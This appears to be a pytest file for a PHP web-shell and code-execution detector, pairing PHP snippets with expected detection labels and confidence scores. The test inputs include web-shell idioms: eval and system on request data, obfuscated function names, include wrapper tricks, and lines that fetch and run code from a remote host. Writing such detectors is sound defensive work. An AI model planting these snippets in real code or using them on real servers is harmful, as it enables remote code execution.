from __future__ import annotations

import pytest

from pratique.content.php.program import Program
from pratique.content.php.sinks import runs
from pratique.content.php.syntax import parse


def sightings(source: str) -> list[tuple[str, float]]:
    program = Program(parse(f"<?php {source}".encode()))
    return [(sighting.mark, sighting.confidence) for sighting in runs(program)]


DIRECT = ("php-runs-request", 0.97)
RUNS = ("php-runs-request", 0.85)
CALLED = ("php-runs-request", 0.9)
NAMED = ("php-runs-request", 0.95)
DOUBTED = ("php-runs-request", 0.5)
DECODED = ("php-runs-decoded", 0.92)
BUILT = ("php-runs-decoded", 0.85)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("eval($_GET['a']);", ("php-runs-request", 0.97)),
        ("system($_GET['a']);", ("php-runs-request", 0.97)),
        ("system('ls ' . $_GET['a']);", ("php-runs-request", 0.85)),
        ("if (in_array($_GET['a'], $x)) { $_GET['a'](); }", ("php-runs-request", 0.55)),
        ("system($_SERVER['argv'][1]);", ("php-runs-request", 0.6)),
        ("system($_SERVER['argv'][1]);" + " $a = 1;" * 600, ("php-runs-request", 0.4)),
        ("system($_SERVER['argv'][1] . $_GET['a']);", ("php-runs-request", 0.97)),
        ("call_user_func([$_GET['a'] /* x */], 'x');", ("php-runs-request", 0.9)),
        # an application that keeps everything in one place, and what a small program keeps there
        (
            "class A { function set($n, $v) { $this->env[$n] = $v; }"
            " function skin($s) { $this->set('s', $s); } function on($x) { $this->skin($x); }"
            " function tag($m) { return eval($m); } function part($m) { return $this->tag($m); }"
            " function all() { return $this->part($this->env['task']); } }"
            " $a = new A; $a->on($_GET['s']); $a->all();",
            ("php-runs-request", 0.6),
        ),
        (
            "class A { function set($n, $v) { $this->env[$n] = $v; }"
            " function go() { eval($this->env['c']); } } $a = new A; $a->set('c', $_POST['c']);",
            ("php-runs-request", 0.97),
        ),
        # made fit for a page; one of the program's own files, which the visitor picks
        ("eval('return ' . htmlspecialchars($_COOKIE['a']) . ';');", ("php-runs-request", 0.6)),
        ("eval(file_get_contents(ROOT . $_GET['a'] . '.tpl'));", ("php-runs-request", 0.6)),
        ("eval(file_get_contents($_GET['a'] . '.tpl'));", ("php-runs-request", 0.97)),
        ("eval(file_get_contents('http://' . $_GET['a']));", ("php-runs-request", 0.97)),
        ("eval($_SERVER['argv'][1]);", ("php-runs-request", 0.97)),
        ("call_user_func($_GET['a'], 'x');", ("php-runs-request", 0.9)),
        ("call_user_func([$_GET['a'], $_GET['b']], 'x');", ("php-runs-request", 0.9)),
        ("call_user_func([$_GET['a'], 'url'], 'x');", ("php-runs-request", 0.55)),
        ("include $_FILES['a']['tmp_name'];", ("php-runs-request", 0.8)),
        ("eval(base64_decode('AAAA'));", ("php-runs-decoded", 0.92)),
        ("eval(file_get_contents('http://b.example'));", ("php-runs-remote", 0.9)),
        ("include 'a.ico';", ("php-hidden-include", 0.85)),
        ("$f = 'ass' . $_GET['a']; $f($_GET['b']);", ("php-runs-request", 0.9)),
        ("('sys' . $_GET['a'])($_GET['b']);", ("php-runs-request", 0.9)),
        ("$f = \"shell_{$_GET['a']}\"; $f('ls');", ("php-runs-request", 0.9)),
        ("$f = 'pass'; $g = $f . strrev($_GET['a']); $g($b);", ("php-runs-request", 0.9)),
        ("$x['k'] = 'system'; $y[] = $x; $y[0]['k']($_POST['c']);", ("php-runs-request", 0.85)),
        ("foreach (['exec', 'system'] as $f) { $f($_GET['c']); }", ("php-runs-request", 0.85)),
        ("function t(&$v) { $v = $v . 't'; } $a = 'asser'; t($a); $a($_GET['c']);", RUNS),
        ("function n(&$v) { $v = 'system'; } n($a); $a($_GET['c']);", DIRECT),
        ("function g(&$o) { $o = $_POST['x']; } g($c); eval($c);", ("php-runs-request", 0.97)),
        (
            "function s() { global $c; $c = $_POST['x']; } s(); eval($c);",
            ("php-runs-request", 0.97),
        ),
        ("ob_start('system'); echo $_GET['c']; ob_end_flush();", ("php-runs-request", 0.97)),
        ("ob_start(function ($c) { eval($c); }); print $_GET['c'];", ("php-runs-request", 0.97)),
        (
            "ob_start(function ($c) { global $e; $e = $c; }); echo $_GET['c']; assert($e);",
            ("php-runs-request", 0.97),
        ),
        ("$s->fetchAll(PDO::FETCH_FUNC, $_GET['f']);", ("php-runs-request", 0.9)),
        ("preg_replace($_POST['a'], $_POST['b'], 'x');", ("php-runs-request", 0.97)),
        ("preg_replace('/' . $a . '/ie', $_POST['b'], 'x');", ("php-runs-request", 0.97)),
        ("$e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", DECODED),
        ("preg_replace(\"'a'e\", 'e' . 'va' . 'l' . '($_SESSION[1])', 'a');", BUILT),
        ("eval(file_get_contents('logo.png'));", DECODED),
        ("eval('?>' . file_get_contents(__DIR__ . '/a.ico'));", DECODED),
        ("array_map(pack('H*', $k) ^ $j, [$_GET['a']]);", ("php-runs-decoded", 0.8)),
        ("file_get_contents('php' . $_GET['a'])($_GET['b']);", ("php-runs-request", 0.95)),
        ("$o = json_decode(file_get_contents('php://input')); $f = $o->f; $f(1);", NAMED),
        ("include 'data:text/plain,' . $_GET['c'];", ("php-runs-request", 0.9)),
        ('include "data://text/plain;base64,$_POST[c]";', ("php-runs-request", 0.9)),
        ("include 'zip://' . $_GET['f'] . '#x';", ("php-runs-request", 0.9)),
        ("include 'php://filter/convert.base64-decode/resource=' . $_GET['f'];", CALLED),
        ("system(fgets(fsockopen('192.0.2.1', 44)));", ("php-runs-remote", 0.9)),
        ("$f = system(...); $f($_GET['c']);", DIRECT),
        ("$f = Closure::fromCallable('system'); $f($_GET['c']);", DIRECT),
        ("is_callable($_GET['f'], false, $n); $n($_GET['a']);", NAMED),
        ("sscanf($_POST['c'], '%s', $c); eval($c);", DIRECT),
        ("new $_GET['c']($_POST['a']);", ("php-runs-request", 0.85)),
        ("new $_GET['c']($_POST);", ("php-runs-request", 0.5)),
        ("$t = $_GET['t']; if (in_array($t, $x)) { new $t($_POST['a']); }", DOUBTED),
    ],
)
def test_says_how_sure_it_is(source, expected):
    assert sightings(source) == [expected]


def test_a_text_about_php_is_not_php():
    assert sightings("gzinflate($d)($r);") == [("php-runs-decoded", 0.8)]
    assert sightings("gzinflate($d) and so on ($r);") == []
    assert sightings("gzinflate($d) x ($r);") == []


def test_a_function_of_the_file_is_not_that_of_php():
    assert sightings("function exec($x) {} exec($_GET['a']);") == []


@pytest.mark.parametrize(
    "source",
    [
        "$f = 'exec_' . $_GET['task']; $f($_POST);",
        "$f = 'exec' . $_GET['task']; $f($_POST);",
        "$h = ['mail' => 'send', 'run' => 'start']; $f = $h[$x]; $f($_GET['y']);",
        "foreach (['md5', 'sha1'] as $h) { echo $h($_POST['p']); }",
        "foreach (['exec', 'system'] as $f) { $f('git describe'); }",
        "function add(&$l, $x) { $l[] = $x; } add($rows, $_POST['x']); echo count($rows);",
        "function clean(&$v) { $v = htmlspecialchars($v); } clean($_POST['x']);",
        "ob_start('ob_gzhandler'); echo $_GET['q'];",
        "ob_start(function ($b) { return trim($b); }); echo $_POST['x'];",
        "$s->fetchAll(PDO::FETCH_FUNC, 'make_item'); echo $_GET['x'];",
        "preg_replace('#' . $_POST['find'] . '#', $_POST['replace'], $row);",
        "preg_replace('/' . preg_quote($_GET['q'], '/') . '/i', '<b>$0</b>', $t);",
        "$e = exif_read_data($_FILES['f']['tmp_name']); echo $e['Make'];",
        "include 'phar://' . __DIR__ . '/tool.phar/index.php';",
        # bits of a number that a class names
        "class T { function f() { $this->f &= ~Engine::PARTIAL; return eval(make($this->f)); } }",
        "include 'data/' . basename($_GET['p']) . '.php';",
        "exec('tar xzf a-' . file_get_contents('https://a.example/version') . '.tgz');",
    ],
)
def test_leaves_alone(source):
    assert sightings(source) == []
